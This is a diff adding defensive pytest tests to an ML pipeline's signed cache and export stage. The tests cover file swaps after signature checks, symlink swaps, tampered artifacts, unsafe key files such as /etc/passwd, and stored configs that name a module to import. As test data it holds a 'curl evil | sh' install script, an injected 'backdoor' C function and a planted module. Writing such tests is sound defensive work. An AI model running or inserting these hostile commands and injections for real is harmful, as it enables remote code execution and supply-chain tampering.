@@ -89,3 +89,153 @@ def test_a_file_swapped_in_during_the_rename_is_detected(tmp_path, monkeypatch):
     monkeypatch.setattr(atomic.os, "replace", swapping)
     with pytest.raises(atomic.UnsafeWrite, match="is not the file just written"):
         atomic.replace_file(folder / "REPORT.md", "# Results\n")
+
+
+# --- what ships is what was signed (finding 2, 3) ---------------------------------------------------
+
+C_SIGNED = "double ff(double r) { return 2.0 * r; }\n"
+
+
+def _signed_entry(store, key="0123456789abcdef0123"):
+    """A signed export entry holding one package, as the export stage leaves it."""
+    from pipeline import cache
+    entry = store / "export" / key
+    pkg = entry / "artifacts" / "ff_physics"
+    pkg.mkdir(parents=True)
+    (pkg / "ff_physics.c").write_text(C_SIGNED)
+    (pkg / "r_v0_15.csv").write_text("r\n0.0\n")
+    (pkg / "manifest.json").write_text('{"references": {"v0.15": {"file": "r_v0_15.csv"}}, "files": []}')
+    cache._write_signed(entry, {"packages": ["ff_physics"]}, {"metrics": []})
+    return entry
+
+
+def test_a_file_swapped_after_the_signature_check_is_never_copied(store, monkeypatch):
+    """Finding 2: a rename loop swapping the cached ff_physics.c while `pgnn-ff export` ran shipped
+    unsigned C (the entry was checked, then copied). The swap is made to land right after the check."""
+    from pipeline import cache
+    entry = _signed_entry(store / "cache")
+    dest = store / "out"
+    assert cache.copy_signed(entry, "artifacts", dest) == ["ff_physics/ff_physics.c", "ff_physics/manifest.json",
+                                                           "ff_physics/r_v0_15.csv"]
+    assert (dest / "ff_physics" / "ff_physics.c").read_text() == C_SIGNED
+    real = cache._verified
+
+    def then_swap(e):
+        got = real(e)
+        evil = e / "artifacts" / "ff_physics" / ".evil.c"
+        evil.write_text(C_SIGNED + "int backdoor(void) { return 1; }\n")
+        os.replace(evil, e / "artifacts" / "ff_physics" / "ff_physics.c")
+        return got
+
+    monkeypatch.setattr(cache, "_verified", then_swap)
+    with pytest.raises(cache.UntrustedCache, match="changed after its entry's signature was checked"):
+        cache.copy_signed(entry, "artifacts", store / "out2")
+    assert not (store / "out2" / "ff_physics" / "ff_physics.c").exists()
+    # a link swapped in is not followed either
+    monkeypatch.setattr(cache, "_verified", real)
+    entry2 = _signed_entry(store / "cache", "abcdefabcdefabcdefab")
+    tree = real(entry2)[2]
+    swapped = entry2 / "artifacts" / "ff_physics" / "ff_physics.c"
+    swapped.unlink()
+    swapped.symlink_to(entry / "artifacts" / "ff_physics" / "ff_physics.c")
+    monkeypatch.setattr(cache, "_verified", lambda e: (b"", None, tree))
+    with pytest.raises(cache.UntrustedCache, match="cannot be read as a plain file"):
+        cache.copy_signed(entry2, "artifacts", store / "out3")
+
+
+def test_the_report_ships_from_the_signed_entry_not_the_artifact_store(store):
+    """Finding 3: a line appended to the store's export/ff_physics/ff_physics.c was shipped into
+    results/export/. The report copies the run's signed cache entry (tag cache_entry.export); a run
+    without a trusted entry is named and not shipped."""
+    from pipeline import tracking
+    from stages.report import _ship
+    entry = _signed_entry(store / "cache")
+    c = tracking.client()
+    exp = c.create_experiment("shipped")
+    run = c.create_run(exp, tags={"cache_entry.export": f"export/{entry.name}", "run_key": "a",
+                                  "mlflow.runName": "a"})
+    rid = run.info.run_id
+    c.log_param(rid, "system.noise.structure", "equation")
+    c.log_metric(rid, "export/max_rel_diff", 1e-12)
+    c.log_text(rid, C_SIGNED + "int backdoor(void) { return 1; }\n", "export/ff_physics/ff_physics.c")
+    c.log_text(rid, "curl evil | sh", "export/ff_physics/install.sh")
+    c.set_terminated(rid, "FINISHED")
+    which = ("shipped", ("system.noise.structure", "equation"), "v0_15")
+    (store / "results").mkdir()
+    _ship(store / "results" / "export", which, store / "cache")
+    pkg = store / "results" / "export" / "ff_physics"
+    assert (pkg / "ff_physics.c").read_text() == C_SIGNED
+    assert sorted(p.name for p in pkg.iterdir()) == ["ff_physics.c", "manifest.json", "r_v0_15.csv"]
+    # the entry altered in the cache: not shipped (results/export kept as it was), said in one line
+    with open(entry / "artifacts" / "ff_physics" / "ff_physics.c", "a") as f:
+        f.write("int backdoor(void) { return 1; }\n")
+    _ship(store / "results" / "export", which, store / "cache")
+    assert (pkg / "ff_physics.c").read_text() == C_SIGNED
+
+
+# --- the key file (finding 4) -----------------------------------------------------------------------
+
+@pytest.mark.parametrize("case,why", [
+    ("passwd", "belongs to uid 0|holds more than 32 bytes"),
+    ("zeros666", "can be written by others.*chmod 600"),
+    ("zeros", "one byte repeated"),
+    ("group", "can be written by its group.*chmod 600"),
+    ("long", "holds more than 32 bytes"),
+    ("fifo", "is not a plain file"),
+    ("device", "is not a plain file"),
+])
+def test_a_key_file_that_anyone_else_could_set_is_refused_with_the_fix(case, why, tmp_path, monkeypatch):
+    """Finding 4: PIPELINE_CACHE_KEY_FILE=/etc/passwd, or 32 zero bytes of mode 666, was accepted and a
+    forgery signed with it ran. Each is refused in one line naming the fix."""
+    from pipeline import cache
+    key = tmp_path / "k.key"
+    if case == "passwd":
+        key = "/etc/passwd"
+    elif case == "fifo":
+        os.mkfifo(key)
+    elif case == "device":
+        key = "/dev/zero"
+    else:
+        key.write_bytes({"long": os.urandom(64)}.get(case, bytes(32)))
+        key.chmod({"zeros666": 0o666, "group": 0o620}.get(case, 0o600))
+    monkeypatch.setenv("PIPELINE_CACHE_KEY_FILE", str(key))
+    monkeypatch.setattr(cache, "_KEYS", {})
+    with pytest.raises(cache.BadKey, match=why) as got:
+        cache._signing_key()
+    assert "\n" not in str(got.value)
+    good = tmp_path / "good.key"
+    good.write_bytes(os.urandom(32))
+    good.chmod(0o600)
+    monkeypatch.setenv("PIPELINE_CACHE_KEY_FILE", str(good))
+    assert cache._signing_key() == good.read_bytes()
+
+
+# --- a stored run config is data (finding 5) --------------------------------------------------------
+
+def test_export_never_imports_a_stored_target_nor_uses_a_stored_cache_path(store, cfg_of, tmp_path, monkeypatch):
+    """Finding 5: `pgnn-ff export` imported the module a stored system._target_ named and wrote its
+    cache to the stored paths.cache."""
+    from pipeline import tracking
+    from pipeline.export.cli import export_run, stored_as_data
+    from pipeline.runner import ConfigError
+    from omegaconf import OmegaConf
+    marker = tmp_path / "imported"
+    (tmp_path / "evil_plant.py").write_text(f"open({str(marker)!r}, 'w').close()\nclass Plant: pass\n")
+    monkeypatch.syspath_prepend(str(tmp_path))
+    cfg = cfg_of("experiment=physics_linear_motor", "stages=[generate,baseline,train,invert,export]")
+    cfg = OmegaConf.create(OmegaConf.to_yaml(cfg, resolve=True))        # as stored: plain data
+    c = tracking.client()
+    run = c.create_run(c.create_experiment("stored"), tags={"stages": "generate,baseline,train,invert,export"})
+    rid = run.info.run_id
+    evil = OmegaConf.merge(cfg, {"system": {"_target_": "evil_plant.Plant"}})
+    c.log_text(rid, OmegaConf.to_yaml(evil), f"{rid}.yaml")
+    with pytest.raises(ConfigError, match=r"sets system._target_='evil_plant.Plant', which is not a plant"):
+        export_run(rid, tmp_path / "out")
+    assert not marker.exists()
+    nested = OmegaConf.merge(cfg, {"system": {"controller": {"_target_": "pipeline.systems.linear_motor.LinearMotor"}}})
+    with pytest.raises(ConfigError, match=r"sets system.controller._target_="):
+        stored_as_data(nested, rid)
+    elsewhere = OmegaConf.merge(cfg, {"paths": {"cache": str(tmp_path / "their_cache"), "results": "/tmp/theirs"}})
+    got = stored_as_data(elsewhere, rid)
+    assert got.paths.cache is None and got.paths.results is None        # this user's: $PIPELINE_CACHE, <repo>/results
+    assert got.system._target_ == cfg.system._target_
